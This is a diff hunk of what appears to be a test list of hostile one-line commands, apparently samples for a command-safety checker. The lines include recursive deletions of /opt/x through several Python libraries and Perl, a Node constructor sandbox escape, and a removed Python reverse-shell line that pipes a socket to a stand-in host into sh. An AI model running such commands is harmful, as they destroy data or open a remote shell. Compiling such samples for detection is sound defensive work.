@@ -83,7 +83,7 @@ CODE = (
     """python3 -c 'from invoke import run; run("rm -r /opt/x")'""",
     """python3 -c 'from fabric import Connection; Connection("h").run("rm -r /opt/x")'""",
     """python3 -c 'from plumbum import local; local["rm"]("-rf","/opt/x")'""",
-    """python3 -c 'import socket,subprocess as p; s=socket.create_connection(("e",1)); p.call(["sh"],stdin=s)'""",
+    """python3 -c 'import socket,subprocess as p; s=socket.socket(); p.call(["sh"],stdin=s)'""",
     """node -e '[].constructor.constructor("return process.exit(1)")()'""",
     """node -e 'setTimeout("code",1)'""",
     "perl -e 'system(qw(rm -r /opt/x))'",
